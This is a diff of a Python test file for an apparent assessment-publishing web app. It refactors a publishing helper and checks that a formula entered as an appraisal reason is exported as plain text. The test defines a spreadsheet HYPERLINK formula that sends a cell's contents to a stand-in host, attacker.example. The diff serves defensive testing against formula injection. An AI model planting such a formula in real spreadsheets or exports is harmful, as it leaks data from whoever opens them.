@@ -6,8 +6,7 @@ import zipfile
 from parindex.web.cycles import transitions as t
 from parindex.web.cycles.models import AssessmentState as A
 from parindex.web.cycles.models import CycleState as C
-from parindex.web.publication.transitions import publish
-from tests.web.conftest import assessment_of, at_stage, client_for, entry_of, fill
+from tests.web.conftest import assessment_of, at_stage, client_for, entry_of, fill, publish_first_version
 
 LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'
 
@@ -19,10 +18,7 @@ def publish_with_reason(cycle, units, people, reason):
     assessment_of(cycle, units["A"]).__class__.objects.filter(cycle=cycle).update(state=A.SUBMITTED)
     entry = entry_of(cycle, units["A"], "1.1")
     t.appraise(entry, people["appraiser_a"], 0.5, reason, entry.version)
-    at_stage(cycle, C.COUNCIL)
-    cycle.assessments.update(state=A.FINAL)
-    t.approve_by_council(cycle, people["council"])
-    publish(cycle, people["admin"])
+    publish_first_version(cycle, people)
 
 
 def test_a_formula_typed_as_a_reason_is_text_in_the_public_workbook(cycle, units, people):
